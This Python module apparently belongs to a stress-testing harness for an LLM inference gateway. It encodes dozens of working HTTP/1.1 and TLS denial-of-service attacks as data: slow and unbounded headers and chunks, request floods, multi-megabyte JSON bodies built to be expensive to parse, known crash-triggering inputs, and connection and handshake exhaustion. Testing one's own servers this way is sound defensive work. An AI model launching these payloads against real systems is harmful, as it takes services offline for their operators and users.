"""Tricks on the gateway's HTTP/1.1, as data: each makes the bytes that one connection of an attacker sends.

But for those that say `needs_token`, a caller without one can play them. What has no end goes on until the server cuts
the connection off, or the attack is over.
"""

from __future__ import annotations

import contextlib
import enum
import functools
import itertools
import json
import random
import ssl
from collections.abc import Callable, Iterator
from dataclasses import dataclass

# As large as a body may be by default.
BODY_BYTES = 4 << 20
_LINE = b"x-filler: " + b"a" * 1000 + b"\r\n"
_BLOCK = 64 << 10
CHAT, COMPLETIONS, MESSAGES = "/v1/chat/completions", "/v1/completions", "/v1/messages"
# Seconds between the pieces of a slow sender: far less than a server waits for the next.
_DROP_SECONDS = 0.05


class Reading(enum.Enum):
    """Ways in which the player of a trick reads the answers."""

    ALL = "all"
    SLOW = "slow"
    NONE = "none"


class Then(enum.Enum):
    """Deeds of the player behind the last piece."""

    # Until it is cut off, or the time is over.
    WAIT = "wait"
    # Until an answer begins; then again, on a connection of its own.
    ANSWER = "answer"
    # Hang up, and again.
    LEAVE = "leave"


@dataclass(frozen=True)
class Target:
    """The server as its callers see it."""

    # Value of Host.
    host: str
    # Of a caller who may.
    token: str = ""


@dataclass(frozen=True)
class HttpTrick:
    """One of them. `make` makes the pieces; they may have no end."""

    name: str
    make: Callable[[Target], Iterator[bytes]]
    reading: Reading = Reading.ALL
    then: Then = Then.WAIT
    # Between two pieces.
    pause_seconds: float = 0.0
    # At a time; None: as many as the attacker has for any.
    connections: int | None = None
    # Sends its bytes below TLS, where the server has it.
    is_below_tls: bool = False
    # Says nothing to a server without TLS that another trick does not say.
    only_tls: bool = False
    needs_token: bool = False


def head(target: Target, method: str, path: str, *fields: str, version: str = "1.1", host: str | None = None) -> bytes:
    """Make the head of a request; `host` in place of the target's, "" for none."""
    shown = target.host if host is None else host
    lines = [f"{method} {path} HTTP/{version}", *([f"Host: {shown}"] if shown else []), *fields, "", ""]
    return "\r\n".join(lines).encode("latin-1")


def post(target: Target, path: str, body: bytes, *fields: str) -> bytes:
    """Make a whole request with a body."""
    return head(target, "POST", path, "Content-Type: application/json", f"Content-Length: {len(body)}", *fields) + body


def _bearer(target: Target) -> str:
    return f"Authorization: Bearer {target.token}"


def _unended(target: Target, path: str, *fields: str) -> bytes:
    """A head whose lines go on."""
    return head(target, "POST", path, *fields)[:-2]


def _chunked(target: Target, path: str = CHAT, method: str = "POST") -> bytes:
    return head(target, method, path, "Transfer-Encoding: chunked")


def _forever(piece: bytes, least: int = _BLOCK) -> Iterator[bytes]:
    """Yield a piece again and again, many at a time."""
    return itertools.repeat(piece * max(1, least // max(1, len(piece))))


def _behind(first: bytes, piece: bytes) -> Iterator[bytes]:
    return itertools.chain((first,), _forever(piece))


def _drops(data: bytes) -> Iterator[bytes]:
    return (data[at : at + 1] for at in range(len(data)))


def _slow_lines(target: Target) -> Iterator[bytes]:
    yield _unended(target, CHAT)
    yield from (f"x-{number}: a\r\n".encode() for number in itertools.count())


def _many_heads(target: Target) -> Iterator[bytes]:
    """Yield requests with as many small headers as a head has room for."""
    return _forever(head(target, "GET", "/health")[:-2] + b"a:\r\n" * 12_000 + b"\r\n")


# Bodies.


def _body(field: str, value: str) -> bytes:
    """A chat's body with a field written as JSON."""
    return b'{"messages": [{"role": "user", "content": "a"}], "%b": %b}' % (field.encode(), value.encode())


def _list_of(item: str, count: int) -> str:
    return "[" + ",".join(itertools.repeat(item, count)) + "]"


_ROOM = BODY_BYTES - 200


def _keys(count: int) -> str:
    """A JSON object of many keys that are numbers."""
    return "{" + ",".join(f'"{number}": 1' for number in range(count)) + "}"


# Bodies of up to 4 MiB that cost whoever parses, copies or checks them before he asks who sends them.
HEAVY_BODIES: dict[str, Callable[[], bytes]] = {
    "force_words_ids of [1]": lambda: _body("force_words_ids", _list_of("[1]", _ROOM // 4)),
    "force_words_ids of [[1]]": lambda: _body("force_words_ids", _list_of("[[1]]", _ROOM // 6)),
    "bad_words_ids of [1]": lambda: _body("bad_words_ids", _list_of("[1]", _ROOM // 4)),
    "chat_template_kwargs of many keys": lambda: _body("chat_template_kwargs", _keys(_ROOM // 13)),
    "logit_bias of many ids": lambda: _body("logit_bias", _keys(_ROOM // 13)),
    "unknown fields": lambda: _keys(_ROOM // 13).encode(),
    "330,000 messages": lambda: b'{"messages": %b}' % _list_of('{"role":"u"}', 320_000).encode(),
    "messages that are null": lambda: b'{"messages": %b}' % _list_of("null", _ROOM // 5).encode(),
    "lists within lists": lambda: _body("documents", "[" * (_ROOM // 2) + "]" * (_ROOM // 2)),
    "many lists within lists": lambda: _body("tools", _list_of("[" * 500 + "]" * 500, _ROOM // 1001)),
    "integers of 400 digits": lambda: _body("bad_words_ids", _list_of("[" + "9" * 400 + "]", _ROOM // 403)),
    "integers of 4,000 digits": lambda: _body("stop_token_ids", _list_of("9" * 4000, _ROOM // 4001)),
    "stop of many texts": lambda: _body("stop", _list_of('"a"', _ROOM // 4)),
    "stop_token_ids of many numbers": lambda: _body("stop_token_ids", _list_of("1", _ROOM // 2)),
    "a text of escapes": lambda: _body("user", '"' + "\\u0061" * (_ROOM // 6) + '"'),
    "a million prompts": lambda: b'{"prompt": %b}' % _list_of('"a"', _ROOM // 4).encode(),
}


@functools.cache
def heavy_body(name: str) -> bytes:
    """Return the body of that name."""
    return HEAVY_BODIES[name]()


def _heavy(name: str) -> Callable[[Target], Iterator[bytes]]:
    def make(target: Target) -> Iterator[bytes]:
        whole = post(target, COMPLETIONS if "prompts" in name else CHAT, heavy_body(name))
        return (whole[at : at + _BLOCK] for at in range(0, len(whole), _BLOCK))

    return make


# Bodies that each gateway of an earlier day answered with 500, a traceback and some 60 kB of log.
FAULTS: tuple[tuple[str, bytes], ...] = (
    (CHAT, _body("seed", "9" * 400)),
    (CHAT, _body("max_tokens", "-" + "9" * 400)),
    (CHAT, _body("documents", "[[]]")),
    (CHAT, _body("tools", "[" * 60 + "]" * 60)),
    (CHAT, _body("chat_template_kwargs", '{"a": ' + "[" * 600 + "]" * 600 + "}")),
    ("/v1/embeddings", b'{"input": "\\ud800"}'),
    ("/tokenize", b'{"prompt": "\\ud800"}'),
    ("/v1/responses", b'{"input": "a", "previous_response_id": "\\ud800"}'),
)


def _fault_flood(target: Target) -> Iterator[bytes]:
    return itertools.cycle([post(target, path, body) for path, body in FAULTS])


def _limit_flood(target: Target) -> Iterator[bytes]:
    return _forever(head(target, "GET", "/v1/responses/resp_a/input_items?limit=" + "9" * 5000))


# Requests that are never the same.


def _wrong_tokens(target: Target) -> Iterator[bytes]:
    """Yield requests with a token each that nobody has: whoever remembers them remembers many."""
    draw, body = random.Random(1), _body("max_tokens", "1")
    while True:
        yield post(target, CHAT, body, f"Authorization: Bearer {draw.randbytes(2000).hex()}")


def _new_names(target: Target) -> Iterator[bytes]:
    """Yield requests for models, responses, paths, methods and ids that each come once."""
    draw = random.Random(1)
    while True:
        name = draw.randbytes(200).hex()
        yield (
            head(target, "GET", f"/v1/models/{name}", f"X-Request-Id: {name[:100]}")
            + head(target, "GET", f"/v1/responses/{name}", f"Traceparent: 00-{name[:32]}-{name[:16]}-01")
            + head(target, "GET", f"/{name}")
            + head(target, "PROPFIND", f"/v1/{name[:20]}")
        )


def _page_files(target: Target) -> Iterator[bytes]:
    return _forever(head(target, "GET", "/") + head(target, "GET", "/options"))


def _stream(target: Target) -> bytes:
    body = json.dumps({"prompt": [1], "max_tokens": 4096, "stream": True, "ignore_eos": True}).encode()
    return post(target, COMPLETIONS, body, _bearer(target))


@functools.cache
def _client_hello() -> bytes:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), out).do_handshake()
    return out.read()


def _hello_of_tls(_: Target) -> Iterator[bytes]:
    """Yield the first message of a TLS handshake, to which the server's signature is the answer."""
    yield _client_hello()


def _half(pieces: Callable[[Target], Iterator[bytes]]) -> Callable[[Target], Iterator[bytes]]:
    return lambda target: (piece[: len(piece) // 2] for piece in pieces(target))


def _noise(_: Target) -> Iterator[bytes]:
    draw = random.Random(1)
    return iter(lambda: draw.randbytes(4096), b"")


_SMALL = _body("max_tokens", "1")
_TLS_NOISE = b"\x16\x03\x01\x40\x00" + bytes(16_384)
# No end, and what is in the way of one: of heads, bodies, chunks, trailers.
_UNBOUNDED = (
    HttpTrick("trailers", lambda to: _behind(_chunked(to) + b"2\r\n{}\r\n0\r\n", _LINE)),
    HttpTrick("trailers of a request that has its answer", lambda to: _behind(_chunked(to, "/a") + b"0\r\n", _LINE)),
    HttpTrick("trailers of a GET", lambda to: _behind(_chunked(to, "/health", "GET") + b"0\r\n", _LINE)),
    HttpTrick("one trailer", lambda to: _behind(_chunked(to) + b"0\r\nx-filler: ", b"a")),
    HttpTrick("trailers that nobody reads", lambda to: _behind(_chunked(to) + b"0\r\n", _LINE), Reading.NONE),
    HttpTrick("header lines", lambda to: _behind(_unended(to, CHAT), _LINE)),
    HttpTrick("one header", lambda to: _behind(_unended(to, CHAT) + b"x-filler: ", b"a")),
    HttpTrick("a header's name", lambda to: _behind(_unended(to, CHAT), b"a")),
    HttpTrick("a request line", lambda _: _behind(b"GET /", b"a")),
    HttpTrick("a method", lambda _: _forever(b"A")),
    HttpTrick("empty lines", lambda _: _forever(b"\r\n")),
    HttpTrick(
        "header lines behind an answer that nobody reads",
        lambda to: _behind(head(to, "GET", "/options") * 50 + _unended(to, CHAT), _LINE),
        Reading.NONE,
    ),
    HttpTrick("header lines behind a body", lambda to: _behind(post(to, CHAT, _SMALL) + _unended(to, CHAT), _LINE)),
    HttpTrick(
        "header lines behind an answer under way",
        lambda to: _behind(_stream(to) + _unended(to, CHAT), _LINE),
        needs_token=True,
    ),
    HttpTrick(
        "requests behind an answer under way",
        lambda to: _behind(_stream(to), head(to, "GET", "/health")),
        needs_token=True,
    ),
    HttpTrick("header lines slowly", _slow_lines, pause_seconds=_DROP_SECONDS),
    HttpTrick("chunk extensions", lambda to: _behind(_chunked(to) + b"5", b";a=b")),
    HttpTrick("a chunk's size in zeros", lambda to: _behind(_chunked(to), b"0")),
    HttpTrick("chunks of one byte", lambda to: _behind(_chunked(to), b"1\r\n \r\n")),
    HttpTrick(
        "chunks of one byte with extensions", lambda to: _behind(_chunked(to), b"1;" + b"a" * 900 + b"\r\n \r\n")
    ),
    HttpTrick("chunks without end", lambda to: _behind(_chunked(to), b"1000\r\n" + bytes(4096) + b"\r\n")),
    HttpTrick(
        "chunks of a GET", lambda to: _behind(_chunked(to, "/v1/models", "GET"), b"100\r\n" + bytes(256) + b"\r\n")
    ),
)
# Floods of requests.
_FLOODS = (
    HttpTrick("pipelined requests that nobody reads", lambda to: _forever(head(to, "GET", "/health")), Reading.NONE),
    HttpTrick("pipelined requests", lambda to: _forever(head(to, "GET", "/health"))),
    HttpTrick("pipelined posts", lambda to: _forever(post(to, CHAT, _SMALL))),
    HttpTrick("page files that nobody reads", _page_files, Reading.NONE),
    HttpTrick("page files read slowly", _page_files, Reading.SLOW),
    HttpTrick("one answer that nobody reads", lambda to: iter((head(to, "GET", "/options"),)), Reading.NONE),
    HttpTrick("metrics", lambda to: _forever(head(to, "GET", "/metrics"), 1)),
    HttpTrick(
        "100-continue",
        lambda to: _forever(head(to, "POST", CHAT, "Expect: 100-continue", "Content-Length: 2") + b"{}"),
    ),
    HttpTrick(
        "100-continue without a body",
        lambda to: iter((head(to, "POST", CHAT, "Expect: 100-continue", "Content-Length: 2"),)),
    ),
    HttpTrick("other expectations", lambda to: _forever(head(to, "GET", "/health", "Expect: the impossible"))),
    HttpTrick(
        "preflights",
        lambda to: _forever(
            head(to, "OPTIONS", CHAT, "Origin: http://evil.example", "Access-Control-Request-Method: POST")
        ),
    ),
    HttpTrick("wrong tokens", _wrong_tokens),
    HttpTrick("new names", _new_names),
    HttpTrick("faults", _fault_flood),
    HttpTrick("numbers in a query", _limit_flood),
    HttpTrick("heads of small headers", _many_heads),
    HttpTrick("large queries", lambda to: _forever(head(to, "GET", "/v1/models?" + "a=b&" * 12_000))),
    HttpTrick("large paths", lambda to: _forever(head(to, "GET", "/v1/models/" + "%41" * 16_000))),
    HttpTrick(
        "HTTP/1.0 that stays", lambda to: _forever(head(to, "GET", "/health", "Connection: keep-alive", version="1.0"))
    ),
    HttpTrick("Upgrade: h2c", lambda to: _forever(head(to, "GET", "/health", "Upgrade: h2c", "Connection: Upgrade"))),
    HttpTrick(
        "Upgrade: websocket", lambda to: _forever(head(to, "GET", "/", "Upgrade: websocket", "Connection: Upgrade"))
    ),
    HttpTrick("HTTP/2", lambda _: _forever(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")),
    HttpTrick(
        "a length and chunks",
        lambda to: _forever(
            head(to, "POST", CHAT, "Content-Length: 3", "Transfer-Encoding: chunked") + b"2\r\n{}\r\n0\r\n\r\n"
        ),
    ),
    HttpTrick("two hosts", lambda to: _forever(head(to, "GET", "/v1/models", "Host: b.example"))),
    HttpTrick("no host", lambda to: _forever(head(to, "GET", "/v1/models", host=""))),
    HttpTrick(
        "the host of another site",
        lambda to: _forever(head(to, "GET", "/v1/models", "Origin: http://evil.example", host="evil.example")),
    ),
    HttpTrick(
        "bodies of GETs", lambda to: _forever(head(to, "GET", "/v1/models", "Content-Length: 65536") + bytes(65_536))
    ),
    HttpTrick("noise", _noise),
)
# One request on a connection that costs more than it should.
_HEAVY = tuple(HttpTrick(name, _heavy(name), then=Then.ANSWER) for name in HEAVY_BODIES)
# Connections themselves: a few more than the places of a gateway with default flags, where it is about these.
_CONNECTIONS = (
    HttpTrick(
        "half-sent bodies",
        lambda to: iter((head(to, "POST", CHAT, "Content-Length: 1000") + b"{",)),
        connections=1100,
    ),
    HttpTrick(
        "half-sent bodies of a megabyte",
        lambda to: iter((head(to, "POST", CHAT, f"Content-Length: {BODY_BYTES}") + bytes(1 << 20),)),
        connections=128,
    ),
    HttpTrick("nothing", lambda _: iter(()), connections=2100, is_below_tls=True),
    HttpTrick("half a head", lambda to: iter((_unended(to, CHAT),)), connections=1024),
    HttpTrick("one request, and then nothing", lambda to: iter((head(to, "GET", "/health"),)), connections=2100),
    HttpTrick("connections that come and go", lambda _: iter(()), Reading.NONE, Then.LEAVE, is_below_tls=True),
    HttpTrick("requests of callers who leave", lambda to: iter((post(to, CHAT, _SMALL),)), Reading.NONE, Then.LEAVE),
    HttpTrick("byte by byte", lambda to: _drops(post(to, CHAT, _SMALL)), then=Then.ANSWER, pause_seconds=0.002),
    HttpTrick("fresh handshakes", lambda _: iter(()), Reading.NONE, Then.LEAVE, only_tls=True),
    HttpTrick(
        "handshakes that are given up", _hello_of_tls, Reading.NONE, Then.LEAVE, is_below_tls=True, only_tls=True
    ),
    HttpTrick("half a hello of TLS", _half(_hello_of_tls), connections=1024, is_below_tls=True, only_tls=True),
    HttpTrick("a hello of TLS and nothing", _hello_of_tls, connections=512, is_below_tls=True, only_tls=True),
    HttpTrick(
        "a body in records of one byte",
        lambda to: itertools.chain((head(to, "POST", CHAT, f"Content-Length: {BODY_BYTES}"),), itertools.repeat(b" ")),
        only_tls=True,
    ),
    HttpTrick("records of noise", lambda _: _forever(_TLS_NOISE), is_below_tls=True, only_tls=True),
    HttpTrick("no TLS", lambda to: _forever(head(to, "GET", "/health")), is_below_tls=True, only_tls=True),
)
HTTP_TRICKS: dict[str, HttpTrick] = {trick.name: trick for trick in (*_UNBOUNDED, *_FLOODS, *_HEAVY, *_CONNECTIONS)}


def tricks_for(is_tls: bool) -> dict[str, HttpTrick]:
    """Return those that say something to a server with, or without TLS."""
    return {name: trick for name, trick in HTTP_TRICKS.items() if is_tls or not trick.only_tls}
